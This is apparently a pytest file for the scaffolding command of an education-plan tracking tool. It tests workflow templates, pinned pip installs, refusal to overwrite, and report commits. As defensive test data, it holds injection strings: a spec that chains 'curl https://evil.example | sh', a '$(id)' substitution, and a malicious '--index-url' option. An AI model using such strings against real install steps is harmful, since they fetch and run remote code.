"""`tracker init`: a working data root from the packaged templates, never overwriting anything."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml
from report_support import REPORT_ROOT, TESTS, pinned_terminal, run

from tracker.exitcodes import ExitCode
from tracker.scaffold import files, pinned_install, template, this_year

__all__ = ["pinned_terminal"]

REPO = TESTS.parent
TEMPLATES = REPO / "tracker" / "templates"
PINNED = "git+https://example.org/tracker@0123456789abcdef0123456789abcdef01234567"


def test_init_creates_a_data_root_that_passes_its_own_gate(tmp_path: Path) -> None:
    """No --as-of anywhere: the root init makes today passes check and validate --strict today."""
    root = tmp_path / "new"
    result = run("init", str(root), "--install", "git+https://example.org/tracker@v0.1.0")
    assert result.exit_code == ExitCode.OK, result.stderr
    year = this_year()
    created = sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file())
    assert created == sorted(target for _, target in files(year))
    assert f"plans/example-county-{year}-{year + 4}.yaml" in created
    header, example, end = (root / "actuals" / "actuals.csv").read_text(encoding="utf-8").split("\n")
    assert header == "region,indicator,year,value,qualifier,source,quote,note" and end == ""
    assert example.startswith(f"示例县,学前教育毛入园率,{year - 1},90,")
    workflow = yaml.safe_load((root / ".github/workflows/tracker-check.yml").read_text(encoding="utf-8"))
    steps = workflow["jobs"]["check"]["steps"]
    assert {"run": "python -m pip install git+https://example.org/tracker@v0.1.0", "name": "Install tracker"} in [
        {k: v for k, v in step.items() if k in ("run", "name")} for step in steps
    ]
    check = run("check", "--data", str(root))
    assert check.exit_code == ExitCode.OK, check.stdout + check.stderr
    assert check.stdout == (
        f"tracker check: OK - 0 of 4 targets failed as of {year}; policy: missed; off_track, regressing if binding\n"
    )
    assert check.stderr == ""  # no warning either
    validate = run("validate", "--data", str(root), "--strict")
    assert validate.exit_code == ExitCode.OK, validate.stdout
    assert validate.stdout == "1 plan, 4 targets, 1 actual row: 0 errors, 0 warnings\n"
    status = run("status", "--data", str(root), "--json")
    assert status.exit_code == ExitCode.OK, status.stderr
    statuses = {t["target"]: t["status"] for t in json.loads(status.stdout)["targets"]}
    assert statuses == {
        "preschool-enrolment": "no_data",  # the example row is the baseline, read from the CSV
        "retention": "no_data",
        "new-places": "no_data",
        "quality-balance": "pending",
    }


def test_example_plan_years_follow_the_year_init_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Made in 2031: a 2031-2035 plan with a 2030 baseline, clean until its milestone is overdue in 2036."""
    monkeypatch.setattr("tracker.scaffold.this_year", lambda: 2031)
    root = tmp_path / "new"
    assert run("init", str(root), "--install", PINNED).exit_code == ExitCode.OK
    plan = yaml.safe_load((root / "plans" / "example-county-2031-2035.yaml").read_text(encoding="utf-8"))
    assert plan["id"] == "example-county-2031-2035" and plan["period"] == {"start": 2031, "end": 2035}
    assert plan["targets"][0]["baseline"] == {"year": 2030}
    assert plan["targets"][3]["by"] == 2035 and plan["targets"][3]["quote"].startswith("2035年")
    for as_of in ("2031", "2035"):
        assert run("check", "--data", str(root), "--as-of", as_of).exit_code == ExitCode.OK
    # Left in place, the example has no figure after its deadline: listed apart, failing nothing
    # by default (no report of the milestone is no data, not a miss), failing with --fail-on no_data.
    late = run("check", "--data", str(root), "--as-of", "2036")
    assert late.exit_code == ExitCode.OK, late.stdout
    assert "past the deadline with no figure: 4 (not failing; --fail-on no_data makes them fail)" in late.stdout
    assert "  plans/example-county-2031-2035.yaml:" in late.stdout
    assert "example-county-2031-2035/quality-balance: no_data - no figure, and the deadline 2035 has passed" in (
        late.stdout
    )
    strict = run("check", "--data", str(root), "--as-of", "2036", "--fail-on", "no_data")
    assert strict.exit_code == ExitCode.TARGETS_FAILED
    assert "FAILED - 4 of 4 targets as of 2036 (no_data 4)" in strict.stdout


@pytest.mark.parametrize(
    "spec",
    ["tracker>=0.1", 'x" && curl https://evil.example | sh #', "git+https://x/y.git#egg=tracker", "a: b", "它 $(id)"],
)
def test_install_spec_is_one_shell_word_in_valid_yaml(tmp_path: Path, spec: str) -> None:
    root = tmp_path / "new"
    assert run("init", str(root), "--install", spec).exit_code == ExitCode.OK
    for name, job in (("tracker-check.yml", "check"), ("tracker-report.yml", "report")):
        workflow = yaml.safe_load((root / ".github" / "workflows" / name).read_text(encoding="utf-8"))
        install = next(step["run"] for step in workflow["jobs"][job]["steps"] if step.get("name") == "Install tracker")
        assert shlex.split(install) == ["python", "-m", "pip", "install", spec]


@pytest.mark.parametrize(
    ("spec", "reason"),
    [
        ("--index-url=https://evil.example", "would be read as a pip option"),
        ("tracker\nrun: evil", "line break or control character"),
        ("  ", "needs a package spec"),
    ],
)
def test_unusable_install_spec_is_refused(tmp_path: Path, spec: str, reason: str) -> None:
    root = tmp_path / "new"
    result = run("init", str(root), "--install", spec)
    assert result.exit_code == ExitCode.BAD_INPUT
    assert result.stderr.startswith("--install: TRK405 ") and reason in result.stderr
    assert not root.exists()


def test_init_without_install_pins_the_running_tracker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tracker.scaffold.pinned_install", lambda: PINNED)
    root = tmp_path / "new"
    result = run("init", str(root))
    assert result.exit_code == ExitCode.OK, result.stderr
    assert result.stderr == f"note: the workflows install {PINNED} (rerun with --install to choose another).\n"
    for name in ("tracker-check.yml", "tracker-report.yml"):
        assert f"run: python -m pip install {PINNED}\n" in (root / ".github/workflows" / name).read_text("utf-8")


def test_init_without_install_that_cannot_pin_writes_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No placeholder workflow that fails on its first run: init asks for --install instead."""
    monkeypatch.setattr("tracker.scaffold.pinned_install", lambda: None)
    root = tmp_path / "new"
    result = run("init", str(root))
    assert result.exit_code == ExitCode.BAD_INPUT
    assert result.stderr.startswith("--install: TRK405 cannot tell where this tracker was installed from")
    assert not root.exists()


class _Installed:
    """A stand-in for an installed distribution: its version and its PEP 610 record."""

    def __init__(self, record: str | None, path: str = "/site-packages/tracker-0.1.0.dist-info") -> None:
        self.version, self.record, self._path = "0.1.0", record, path

    def read_text(self, name: str) -> str | None:
        return self.record if name == "direct_url.json" else None


def _clone(tmp_path: Path, remote: str | None) -> tuple[Path, str]:
    """A git repository with one commit (and an origin remote when given): its folder and commit."""
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org"}
    env |= {"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org", "GIT_CONFIG_NOSYSTEM": "1"}
    folder = tmp_path / "clone"
    folder.mkdir(parents=True)
    subprocess.run(["git", "init", "-q"], cwd=folder, env=env, check=True)
    subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", "x"], cwd=folder, env=env, check=True)
    if remote:
        subprocess.run(["git", "remote", "add", "origin", remote], cwd=folder, env=env, check=True)
    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=folder, capture_output=True, text=True, check=True)
    return folder, commit.stdout.strip()


def test_pinned_install_reads_how_tracker_was_installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def installed(record: str | None, path: str = "/site-packages/tracker-0.1.0.dist-info") -> None:
        monkeypatch.setattr("importlib.metadata.distribution", lambda name: _Installed(record, path))

    installed(None)  # from a package index: no PEP 610 record
    assert pinned_install() == "tracker==0.1.0"
    vcs = {"url": "https://github.com/org/tracker.git", "vcs_info": {"vcs": "git", "commit_id": "abc123"}}
    installed(json.dumps(vcs))
    assert pinned_install() == "git+https://github.com/org/tracker.git@abc123"
    with_remote, commit = _clone(tmp_path / "a", "git@github.com:org/tracker.git")
    installed(json.dumps({"url": with_remote.as_uri(), "dir_info": {"editable": True}}))
    assert pinned_install() == f"git+https://github.com/org/tracker.git@{commit}"
    installed(None, str(with_remote / "tracker.egg-info"))  # `python -m tracker` in a source tree
    assert pinned_install() == f"git+https://github.com/org/tracker.git@{commit}"
    without_remote, _ = _clone(tmp_path / "b", None)
    installed(json.dumps({"url": without_remote.as_uri(), "dir_info": {}}))
    assert pinned_install() is None
    installed(json.dumps({"url": "https://example.org/tracker-0.1.0.tar.gz", "archive_info": {}}))
    assert pinned_install() is None


def test_init_refuses_to_overwrite_and_writes_nothing(tmp_path: Path) -> None:
    root = tmp_path / "existing"
    (root / "plans").mkdir(parents=True)
    (root / "indicators.yaml").write_text("mine\n", encoding="utf-8")
    result = run("init", str(root), "--install", PINNED)
    assert result.exit_code == ExitCode.BAD_INPUT
    assert f"{root.as_posix()}/indicators.yaml: TRK409" in result.stderr
    assert (root / "indicators.yaml").read_text(encoding="utf-8") == "mine\n"
    assert sorted(p.name for p in root.rglob("*")) == ["indicators.yaml", "plans"]


def test_examples_are_the_templates_installing_this_checkout() -> None:
    for name in ("check.yml", "report.yml"):
        assert (REPO / "examples" / name).read_text(encoding="utf-8") == template(name, ".")


def test_workflows_name_python_and_the_commands() -> None:
    check = yaml.safe_load(template("check.yml", "."))
    report = yaml.safe_load(template("report.yml", "."))
    for workflow in (check, report):
        steps = next(iter(workflow["jobs"].values()))["steps"]
        assert {"python-version": "3.12"} in [step.get("with") for step in steps]
    assert "tracker check --junit tracker-junit.xml" in template("check.yml")
    # YAML reads the key `on` as True. The check runs monthly too: deadlines pass without a push.
    assert set(check[True]) == {"push", "pull_request", "schedule", "workflow_dispatch"}
    assert [entry["cron"] for entry in check[True]["schedule"]] == ["41 4 2 * *"]
    assert set(report[True]) == {"schedule", "workflow_dispatch"}
    # tracker validate --strict before the check: a warning stops the job before any status.
    runs = [step.get("run", "") for step in check["jobs"]["check"]["steps"]]
    assert runs.index("tracker validate --strict") < runs.index("tracker check --junit tracker-junit.xml")
    assert report["permissions"] == {"contents": "write"}


def test_templates_ship_in_the_wheel() -> None:
    """Every template file matches a pattern of [tool.setuptools.package-data]."""
    config = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
    patterns = config["tool"]["setuptools"]["package-data"]["tracker.templates"]
    files = [p for p in TEMPLATES.iterdir() if p.is_file() and p.suffix != ".py"]
    assert files
    for path in files:
        assert any(path.match(pattern) for pattern in patterns), path.name


def test_template_indicators_load_as_a_catalog() -> None:
    from tracker.plans import load_catalog

    index, problems = load_catalog(TEMPLATES / "indicators.yaml", "indicators.yaml")
    assert problems == []
    assert index.resolve("学前三年毛入园率") == "preschool_gross_enrolment_rate"
    assert len(index.catalog.indicators) == 23


def test_template_indicators_match_the_bundled_catalog() -> None:
    """The standard indicators use the bundled catalog's ids, names, units and directions."""
    template_catalog = yaml.safe_load((TEMPLATES / "indicators.yaml").read_text(encoding="utf-8"))["indicators"]
    bundled = yaml.safe_load((REPO / "indicators.yaml").read_text(encoding="utf-8"))["indicators"]
    for indicator_id, entry in template_catalog.items():
        assert indicator_id in bundled
        for key in ("name", "name_en", "unit", "better"):
            assert entry[key] == bundled[indicator_id][key], (indicator_id, key)


def test_init_into_a_file_is_trk411(tmp_path: Path) -> None:
    existing = tmp_path / "afile"
    existing.write_text("mine\n", encoding="utf-8")
    result = run("init", str(existing), "--install", PINNED)
    assert result.exit_code == ExitCode.BAD_INPUT
    assert result.stderr == f"{existing.as_posix()}: TRK411 cannot write output: it is a file, not a folder\n"
    assert existing.read_text(encoding="utf-8") == "mine\n"


def test_init_that_fails_half_way_removes_what_it_wrote(tmp_path: Path) -> None:
    """A file named .github stops the workflows after three files: TRK411, and the three are gone."""
    root = tmp_path / "new"
    root.mkdir()
    (root / ".github").write_text("not a folder\n", encoding="utf-8")
    result = run("init", str(root), "--install", PINNED)
    assert result.exit_code == ExitCode.BAD_INPUT
    assert result.stderr.startswith(
        f"{root.as_posix()}/.github/workflows/tracker-check.yml: TRK411 cannot write output: "
    )
    assert "unexpected error" not in result.stderr
    assert sorted(p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()) == [".github"]


# --- the report workflow's own shell, run against a real git remote -----------------------------


def _step(name: str) -> str:
    workflow = yaml.safe_load(template("report.yml", "."))
    return next(step["run"] for step in workflow["jobs"]["report"]["steps"] if step.get("name", "").startswith(name))


def _git(cwd: Path, *args: str, env: dict[str, str]) -> str:
    done = subprocess.run(["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True)
    return done.stdout


def _run_step(script: str, cwd: Path, env: dict[str, str]) -> str:
    """As GitHub runs a `run:` step: bash with -e and pipefail."""
    done = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def test_report_workflow_commits_only_real_changes_and_rebases_before_pushing(tmp_path: Path) -> None:
    env = {
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "HOME": str(tmp_path),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.org",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.org",
        "RUNNER_TEMP": str(tmp_path / "runner"),
        "NO_COLOR": "1",
    }
    (tmp_path / "runner").mkdir()
    origin, work, other = tmp_path / "origin.git", tmp_path / "work", tmp_path / "other"
    _git(tmp_path, "init", "-q", "--bare", "--initial-branch=main", str(origin), env=env)
    _git(tmp_path, "clone", "-q", str(origin), str(work), env=env)
    shutil.copytree(REPORT_ROOT, work, dirs_exist_ok=True)
    _git(work, "add", ".", env=env)
    _git(work, "commit", "-qm", "data", env=env)
    _git(work, "push", "-q", "origin", "HEAD:main", env=env)
    _git(work, "branch", "-q", "--set-upstream-to=origin/main", env=env)
    regenerate, commit = _step("Regenerate the reports"), _step("Commit the reports")

    def scheduled_run() -> str:
        _run_step(regenerate, work, env)
        return _run_step(commit, work, env)

    def pushed() -> list[str]:
        return _git(origin, "log", "--format=%s", "main", env=env).splitlines()

    scheduled_run()  # the first report
    assert pushed() == ["Update the tracker reports", "data"]
    # Nothing new: the report gains a Changes section ('No changes.') and nothing else.
    assert "nothing to commit" in scheduled_run()
    assert "<!-- tracker:changes -->" in (work / "reports" / "status.md").read_text(encoding="utf-8")
    assert pushed() == ["Update the tracker reports", "data"]
    # A new figure in this checkout while someone else pushes meanwhile: commit, rebase, push.
    with (work / "actuals" / "figures.csv").open("a", encoding="utf-8") as stream:
        stream.write("甲县,dropout_rate,2024,0.9,,甲县统计公报2024,,\n")
    _git(work, "commit", "-qam", "a 2024 figure", env=env)
    _git(work, "push", "-q", env=env)  # the commit the scheduled run checked out
    _git(tmp_path, "clone", "-q", str(origin), str(other), env=env)
    (other / "NOTES.md").write_text("elsewhere\n", encoding="utf-8")
    _git(other, "add", ".", env=env)
    _git(other, "commit", "-qm", "meanwhile", env=env)
    _git(other, "push", "-q", env=env)
    _run_step(regenerate, work, env)
    _run_step(commit, work, env)
    assert pushed()[:3] == ["Update the tracker reports", "meanwhile", "a 2024 figure"]
    report = _git(origin, "show", "main:reports/status.md", env=env)
    assert "### 新数据" in report and "`alpha-county-2021-2025/dropout`" in report  # zh: the default
    # The next run sees no change: its Changes section ('No changes.') differs, nothing else.
    before = pushed()
    assert "nothing to commit" in scheduled_run()
    assert pushed() == before
